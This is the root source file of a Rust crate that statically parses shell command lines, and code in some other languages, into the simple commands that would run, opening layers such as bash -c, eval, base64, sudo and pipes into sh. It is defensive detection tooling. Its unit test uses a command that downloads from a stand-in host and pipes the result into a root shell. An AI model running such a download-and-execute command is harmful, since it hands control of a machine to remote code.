//! From a shell command to the simple commands that would run, decoded layers included.
//!
//! A rule that greps a command line is beaten by the first `bash -c`, `eval` or base64. This crate
//! parses the line with the bash grammar and follows every layer it can resolve without running
//! anything, down to stated bounds, so that rules see the commands that would run.

mod bounds;
mod carry;
mod code;
mod content;
mod decode;
mod escape;
mod expand;
mod filters;
mod grammar;
mod lex;
mod memory;
mod run;
mod scope;
mod variables;
mod word;

use std::ops::Range;
use std::sync::Arc;

pub use crate::memory::Memory;

use crate::run::Run;
use crate::scope::Scope;

/// All simple commands that a piece of shell text would run.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Analysis {
    /// The commands, in the order of the text; commands of inner layers follow the command that
    /// carries them.
    pub commands: Vec<Command>,
    /// Whether a part of the text is not valid bash; what could be read is in `commands`.
    pub malformed: bool,
    /// Whether a bound was reached and some layers were left unopened.
    pub truncated: bool,
    /// Files that the text writes, by the names it gives them, and what they then hold where that is
    /// known.
    pub files: Vec<(String, Option<String>)>,
    /// Variables that the text exports, and their values where these are known.
    pub exports: Vec<(String, String)>,
}

/// One simple command that would run.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Command {
    /// The words after quoting, expansion of known variables and decoding; parts that only a run
    /// would tell stand as they were written (`$HOME`, `$(date)`).
    pub argv: Vec<String>,
    /// Whether some word holds such a part.
    pub dynamic: bool,
    /// `NAME=value` before the command.
    pub assignments: Vec<(String, String)>,
    /// Redirections, in order.
    pub redirects: Vec<Redirect>,
    /// Text known to reach standard input: a heredoc, a here-string, or a literal piped in.
    pub stdin: Option<String>,
    /// Number of the pipeline in the analysis; commands of one pipeline share it.
    pub pipeline: u32,
    /// Position in the pipeline, from 0.
    pub stage: u32,
    /// Whether the command is sent to the background (`&`, `nohup`, `setsid`, `disown`).
    pub background: bool,
    /// What had to be opened to see this command, outermost first; empty for plain text.
    pub via: Vec<Layer>,
    /// The command that carries this one (`sudo` for what it runs, `sh` for what is in its
    /// `$(...)`), as an index into [`Analysis::commands`]; always a smaller one than its own.
    pub carrier: Option<usize>,
    /// The bytes of the outermost text that the command comes from.
    pub span: Range<usize>,
}

/// A redirection of a command.
#[derive(Clone, Debug, PartialEq)]
pub struct Redirect {
    /// The operator: `>`, `>>`, `<`, `&>`, `>|`, `2>`.
    pub op: String,
    /// The file or descriptor.
    pub target: String,
}

/// What had to be opened to see a command.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub enum Layer {
    /// `$(...)`, backquotes, `<(...)`.
    Substitution,
    /// `bash -c`, `sh -c`, `su -c`.
    ShellC,
    /// `eval`.
    Eval,
    /// A script read from standard input or a heredoc (`... | sh`).
    Stdin,
    /// A wrapper that runs its arguments: `env`, `nohup`, `timeout`, `xargs`, `find -exec`.
    Wrapper(String),
    /// `sudo`, `doas`, `su`, `pkexec`.
    Privilege(String),
    /// Runs elsewhere: `ssh HOST`, `docker exec NAME`, `kubectl exec`.
    Remote(String),
    /// Inline code of another language; `argv` is then what the code passes to a shell or exec.
    Code(String),
    /// Text that was decoded or taken apart, by what made it readable: `base64`, `base32`, `hex`,
    /// `gzip`, `zlib`, `rot13`, `rev`, `tr`, `sed`, `percent`, `characters` (from their numbers),
    /// `replace`, `escapes` (letters written as `\x63`), and, where a program's name was written in
    /// parts, `quotes` (`c''url`) and `variables` (`$a$b`, `${x:2}`, `${IFS}`).
    Decoded(String),
    /// Handed to a scheduler or trap that runs it later: `crontab`, `at`, `trap`.
    Later(String),
    /// The body of a function or alias that the text defines, by its name. The bodies of functions
    /// that the text does not call stand at the end.
    Function(String),
    /// A file that the same text writes and then runs, by its name.
    Script(String),
}

impl Layer {
    /// Whether the layer hides its content from a reader of the text.
    pub fn hides(&self) -> bool {
        matches!(self, Self::Decoded(_))
    }
}

impl Command {
    /// The program's name without its directory; empty where there is none.
    pub fn program(&self) -> &str {
        let first = self.argv.first().map_or("", String::as_str);
        first.rsplit('/').next().unwrap_or(first)
    }
}

/// Reads shell text. Of a text longer than 256 KiB the beginning is read.
pub fn analyse(text: &str) -> Analysis {
    analyse_after(&Arc::default(), text)
}

/// The same where it is known what earlier texts left behind.
pub fn analyse_after(memory: &Arc<Memory>, text: &str) -> Analysis {
    let (text, longer) = first_bytes(text, bounds::TEXT);
    let mut run = Run::new(text.len(), memory);
    run.out.truncated = longer;
    run.script(text, &Scope::outermost());
    run.uncalled_functions();
    run.finish()
}

/// Reads code of another language, as if it were given to its interpreter: the first command is
/// `[LANGUAGE, "-c", CODE]`, and what the code would run follows. Code of a language that is not
/// known (known are Python, JavaScript, Perl, Ruby, PHP, Lua and awk) is that one command. The
/// name of a shell works like [`analyse`].
pub fn analyse_code(language: &str, code: &str) -> Analysis {
    analyse_code_after(&Arc::default(), language, code)
}

/// The same where it is known what earlier texts left behind.
pub fn analyse_code_after(memory: &Arc<Memory>, language: &str, code: &str) -> Analysis {
    if carry::is_shell(language) {
        return analyse_after(memory, code);
    }
    let (code, longer) = first_bytes(code, bounds::TEXT);
    let mut run = Run::new(code.len(), memory);
    run.out.truncated = longer;
    run.outermost_code(language, code);
    run.finish()
}

/// At most the first `len` bytes of a text, and whether there are more.
fn first_bytes(text: &str, len: usize) -> (&str, bool) {
    let end = text.floor_char_boundary(len);
    (text.get(..end).unwrap_or(text), end < text.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The commands as text, one a line.
    fn commands(text: &str) -> String {
        let commands = analyse(text).commands;
        let lines: Vec<String> = commands.iter().map(|c| c.argv.join(" ")).collect();
        lines.join("\n")
    }

    #[test]
    fn layers_of_commands() {
        assert_eq!(
            commands("sudo -u root bash -c 'curl $0 | sh' http://x.example"),
            "sudo -u root bash -c curl $0 | sh http://x.example\n\
             bash -c curl $0 | sh http://x.example\n\
             curl http://x.example\n\
             sh"
        );
    }
}
